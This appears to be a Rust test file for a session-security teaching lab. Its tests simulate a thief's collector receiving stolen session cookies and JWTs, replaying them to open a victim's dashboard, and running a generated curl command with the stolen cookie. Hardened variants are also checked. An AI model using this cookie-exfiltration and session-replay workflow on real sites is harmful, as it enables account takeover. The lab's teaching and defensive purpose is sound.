//! What a thief does with the loot: the id stands out, opens the dashboard or does not, and works as a
//! command.

use std::process::Command;

use session_lab::base::addresses::Listener;

use crate::support::Client;
use crate::support::{TestBench, bench};

/// Lets a stolen pair arrive at the catcher, as the script on the board sends it.
async fn arrive(bench: &TestBench, name: &str, value: &str) {
    let path = format!("/collect?cookie={name}%3D{value}%3B%20other%3D1");
    assert_eq!(bench.victim().get(&path).await.status, 204);
}

fn between<'t>(text: &'t str, start: &str, end: &str) -> &'t str {
    let (_, rest) = text.split_once(start).expect(start);
    rest.split_once(end).expect(end).0
}

#[tokio::test]
async fn the_thief_is_in_until_the_session_ends() {
    let bench = bench();
    let mut victim = bench.visitor("insecure");
    victim.sign_in().await;
    let (name, id) = victim.session_cookie().expect("signed in");
    arrive(&bench, &name, &id).await;
    let loot = bench.victim().get("/loot").await.body;
    assert!(loot.contains("<b>Session id</b>"), "{loot}");
    assert!(loot.contains(&format!(">{id}</code>")), "{loot}");

    let open = async || {
        let form = [("caught", "1".to_owned()), ("at", "0".to_owned())];
        let reply = bench.victim().post_form("/loot/open", &form).await;
        assert_eq!(reply.status, 303, "{}", reply.body);
        assert!(
            reply
                .header("location")
                .expect("a place")
                .ends_with("/loot?opened=1")
        );
        bench.victim().get("/loot?opened=1").await.body
    };
    let opened = open().await;
    assert!(
        opened.contains("<b>The thief is in: Welcome, student123</b>"),
        "{opened}"
    );
    assert!(
        !bench
            .victim()
            .get("/loot")
            .await
            .body
            .contains("The thief is in")
    );

    let reply = bench.student().post_form("/reset", &[]).await;
    assert_eq!(reply.status, 303);
    arrive(&bench, &name, &id).await;
    let opened = open().await;
    assert!(
        opened.contains("<b>Sent to the sign-in page</b>"),
        "{opened}"
    );
}

#[tokio::test]
async fn the_command_for_curl_works_when_it_is_pasted() {
    let bench = bench();
    for variant in ["insecure", "hardened"] {
        let mut victim = bench.visitor(variant);
        victim.sign_in().await;
        let (name, id) = victim.session_cookie().expect("signed in");
        bench.victim().post_form("/loot/clear", &[]).await;
        arrive(&bench, &name, &id).await;
        let loot = bench.victim().get("/loot").await.body;
        let command = between(&loot, "<code id=\"curl-", "</code>");
        let command = command.split_once('>').expect("its text").1;
        let command = command
            .replace("&#39;", "'")
            .replace("&#x27;", "'")
            .replace("&lt;", "<");
        let command = command.replace("&amp;", "&").replace("&#x2F;", "/");
        let ran = Command::new("bash")
            .args(["-c", &command])
            .output()
            .expect("bash");
        let says = String::from_utf8_lossy(&ran.stdout).into_owned();
        assert!(says.starts_with("HTTP/1.1 200"), "{command}: {says}");
        assert!(
            says.contains("Welcome to the Dashboard, student123!"),
            "{command}: {says}"
        );
    }
}

#[tokio::test]
async fn an_id_of_a_single_defence_asks_for_the_variant_and_any_of_them_can_be_tried() {
    let bench = bench();
    let mut victim = bench.visitor("only-csp");
    victim.sign_in().await;
    let (name, id) = victim.session_cookie().expect("signed in");
    arrive(&bench, &name, &id).await;
    let loot = bench.victim().get("/loot").await.body;
    assert!(loot.contains("<option>only-csp</option>"), "{loot}");
    for (variant, says) in [
        ("only-csp", "The thief is in: Welcome, student123"),
        ("only-secure", "Sent to the sign-in page"),
    ] {
        let form = ["1", "0", variant];
        let names = ["caught", "at", "variant"];
        let form: Vec<_> = names.into_iter().zip(form.map(str::to_owned)).collect();
        let reply = bench.victim().post_form("/loot/open", &form).await;
        assert_eq!(reply.status, 303, "{}", reply.body);
        let opened = bench.victim().get("/loot?opened=1").await.body;
        assert!(opened.contains(says), "{variant}: {opened}");
    }
}

#[tokio::test]
async fn a_stolen_token_opens_the_profile() {
    let bench = bench();
    let mut user = bench.visitor("insecure");
    let form = serde_json::json!({"username": "apiuser", "password": "password123"});
    let reply = user.post_json("/jwt/login", &form).await;
    let token = reply.json()["access_token"]
        .as_str()
        .expect("a token")
        .to_owned();
    let storage = format!("/collect?storage=%7B%22access_token%22%3A%22{token}%22%7D");
    assert_eq!(bench.victim().get(&storage).await.status, 204);
    let loot = bench.victim().get("/loot").await.body;
    assert!(loot.contains("<b>Token</b>"), "{loot}");
    let form = [("caught", "1".to_owned()), ("at", "0".to_owned())];
    let reply = bench.victim().post_form("/loot/open", &form).await;
    assert_eq!(reply.status, 303, "{}", reply.body);
    let opened = bench.victim().get("/loot?opened=1").await.body;
    assert!(
        opened.contains("The thief is in: logged in as apiuser"),
        "{opened}"
    );
}

#[tokio::test]
async fn what_is_no_loot_opens_nothing_and_other_origins_are_refused() {
    let bench = bench();
    arrive(&bench, "session_insecure_other", "abc").await;
    for form in [
        [("caught", "1"), ("at", "0")],
        [("caught", "99"), ("at", "0")],
        [("caught", "x"), ("at", "-1")],
    ] {
        let form = form.map(|(name, value)| (name, value.to_owned()));
        let reply = bench.victim().post_form("/loot/open", &form).await;
        assert_eq!(reply.status, 404, "{form:?}");
        assert!(reply.body.contains("Go back to the loot"), "{}", reply.body);
    }
    let reply = bench
        .victim()
        .send("POST", "/loot/open", &[], "caught=1&at=0".into())
        .await;
    assert_eq!(reply.status, 403);
}

/// What the thief did last is remembered in the memory of one Rocket instance.
#[tokio::test]
async fn one_instance_serves_both_listeners_of_the_site() {
    let bench = bench();
    let mut victim = bench.visitor("insecure");
    victim.sign_in().await;
    let (name, id) = victim.session_cookie().expect("signed in");
    arrive(&bench, &name, &id).await;
    let form = [("caught", "1".to_owned()), ("at", "0".to_owned())];
    let reply = bench.victim().post_form("/loot/open", &form).await;
    assert_eq!(reply.status, 303, "{}", reply.body);
    let mut over_tls = Client::new(Listener::AttackerTls, bench.name.prefix());
    let opened = over_tls.get("/loot?opened=1").await.body;
    assert!(opened.contains("The thief is in"), "{opened}");
}
